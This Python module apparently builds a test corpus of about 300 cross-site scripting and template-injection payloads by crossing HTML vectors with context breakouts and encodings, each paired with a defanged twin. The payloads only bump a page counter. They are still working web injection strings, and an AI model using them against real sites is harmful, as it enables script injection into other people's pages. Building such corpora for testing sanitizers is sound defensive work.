"""Three hundred texts that would run as code if a page let them: contexts, vectors, encodings.

Made by rule: 18 ways to run code from markup, each after the end of 5 places a text may stand in,
and 10 ways to run from inside a script or a template; each as it is and in 2 of 8 encodings.
Each has a harmless twin of the very same form.
"""

import string
from collections.abc import Callable
from dataclasses import dataclass
from html import escape
from itertools import product
from urllib.parse import quote

GO = "window.ran=(window.ran||0)+1"
"""What each of them does: a page in which `ran` is set has run one."""

VECTORS = {
    "script": f"<script>{GO}</script>",
    "svg script": f"<svg><script>{GO}</script></svg>",
    "image that is missing": f"<img src=x: onerror={GO}>",
    "set of images": f"<img srcset='x: 1x' onerror={GO}>",
    "sound that is missing": f"<audio src=x: onerror={GO}></audio>",
    "video that is missing": f"<video src=x: onerror={GO}></video>",
    "source of a video": f"<video><source src=x: onerror={GO}></video>",
    "svg that loads": f"<svg onload={GO}></svg>",
    "animation that begins": f"<svg><animate onbegin={GO} attributeName=x dur=1s></svg>",
    "frame that loads": f"<iframe onload={GO}></iframe>",
    "frame with a page": "<iframe srcdoc='<script>parent.ran=1</script>'></iframe>",
    "frame with a script": "<iframe src='javascript:parent.ran=1'></iframe>",
    "fold that opens": f"<details open ontoggle={GO}>x</details>",
    "style that loads": f"<style onload={GO}></style>",
    "style from elsewhere": f"<link rel=stylesheet href=x: onerror={GO}>",
    "page that shows": f"<body onpageshow={GO}>",
    "no script, badly nested": f"<noscript><p title='</noscript><img src=x: onerror={GO}>'>",
    "image in mathematics": f"<math><mi><img src=x: onerror={GO}></mi></math>",
}  # fmt: skip

PLACES = {
    "text": ("", "<p>%s</p>"),
    "double quotes": ('">', '<p title="%s">x</p>'),
    "single quotes": ("'>", "<p title='%s'>x</p>"),
    "plain text": ("</title></textarea></style></script>", "<textarea>%s</textarea>"),
    "comment": ("-->", "<!-- %s -->"),
}
"""What ends a place, and a page in which it does."""

CODE = {
    "string in double quotes": (f'";{GO};"', '<script>var x="%s"</script>'),
    "string in single quotes": (f"';{GO};'", "<script>var x='%s'</script>"),
    "template string": (f"${{{GO}}}", "<script>var x=`%s`</script>"),
    "end of a comment": (f"*/{GO}/*", "<script>/* %s */</script>"),
    "end of a line": (f"\u2028\n{GO}//", "<script>// %s\n</script>"),
    "end of a script": (f"</script><script>{GO}</script>", '<script>var x="%s"</script>'),
    "end of data": (
        f'"}}]</script><script>{GO}</script>',
        '<script type="application/json">[{"x":"%s"}]</script>',
    ),
    "address": (f"javascript:{GO}", "<iframe src=\"%s\" onload=\"window.ran=1\"></iframe>"),
    "handler": (f'" onfocus="{GO}" autofocus="', '<input title="%s" onfocus="window.ran=1">'),
    "template of ours": (
        "{{ ().__class__ }}{% raw %}{# " + f"<script>{GO}</script>",
        "<p>%s</p>",
    ),
}  # fmt: skip


def _mixed(text: str) -> str:
    return "".join(c.upper() if i % 2 else c.lower() for i, c in enumerate(text))


ENCODINGS: dict[str, Callable[[str], str]] = {
    "mixed case": _mixed,
    "entities": escape,
    "entities twice": lambda text: escape(escape(text)),
    "numbers": lambda text: "".join(f"&#{ord(c)};" if c in "<>\"'&" else c for c in text),
    "percent": quote,
    "json": lambda text: text.replace("<", "\\u003c").replace(">", "\\u003e"),
    "blanks": lambda text: text.replace(" ", "\n\t").replace("<", "<\x0c"),
    "controls": lambda text: f"\x1b]8;;{text}\x00\u202e{text[:40]}\u202c\ufeff",
}

_SIGNS = {"<": "^", ">": "~", "&": "@", '"': "`", "'": "!"}
_HARMLESS = str.maketrans(
    _SIGNS
    | {
        letter: letters[(place + 13) % 26]
        for letters in (string.ascii_lowercase, string.ascii_uppercase)
        for place, letter in enumerate(letters)
    }
)


def harmless(text: str) -> str:
    """Give a text no page, script, address or template makes anything of, but of the same form.

    Every character becomes one of its kind: a sign of markup another sign of punctuation that no
    payload has, a letter the 13th after it; digits, blanks and what cannot be seen stay. So words,
    their lengths, which of them are equal and what a slug is made of are the same, and a page that
    takes the text for text has the same elements.
    """
    return text.translate(_HARMLESS)


@dataclass(frozen=True, slots=True, kw_only=True)
class Payload:
    """One text, and what it was made of."""

    text: str
    made_of: str
    page: str
    """A page in which the text runs as it is; empty for encoded ones."""

    @property
    def twin(self) -> str:
        """The text made harmless."""
        return harmless(self.text)


def payloads() -> list[Payload]:
    """Give all of them, in an order that is always the same."""
    raw = [
        (f"{vector}, out of {place}", end + VECTORS[vector], page)
        for vector, (place, (end, page)) in product(VECTORS, PLACES.items())
    ]
    raw += [(name, text, page) for name, (text, page) in CODE.items()]
    names = list(ENCODINGS)
    made: dict[str, Payload] = {}
    for number, (what, text, page) in enumerate(raw):
        made[text] = Payload(text=text, made_of=what, page=page.replace("%s", text))
        wanted = len(made) + 2
        for shift in range(0, 3 * len(names), 3):
            name = names[(number + shift) % len(names)]
            encoded = ENCODINGS[name](text)
            if len(made) < wanted and encoded not in made:
                made[encoded] = Payload(text=encoded, made_of=f"{what}, in {name}", page="")
    return list(made.values())
